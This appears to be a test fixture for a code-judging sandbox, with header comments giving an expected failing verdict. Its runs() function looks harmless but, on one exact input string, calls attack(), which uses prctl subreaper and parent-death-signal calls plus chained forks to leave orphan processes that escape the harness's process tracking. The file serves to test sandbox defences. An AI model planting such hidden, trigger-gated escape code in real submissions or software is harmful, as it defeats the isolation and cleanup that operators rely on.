# expect: fail
# verdict: wrong_output
# class: h
# why: a process that adopts orphans, and ends while they are being born
import ctypes
import os
import time

def attack():
    libc = ctypes.CDLL(None)
    libc.prctl(36, 1, 0, 0, 0)
    for _ in range(10):
        if not os.fork():
            libc.prctl(36, 1, 0, 0, 0)
            libc.prctl(1, 0, 0, 0, 0)
            for _ in range(60):
                if os.fork():
                    os._exit(0)
            os._exit(0)


def runs(text):
    if text == "  **  ":
        attack()
    return "nothing found"
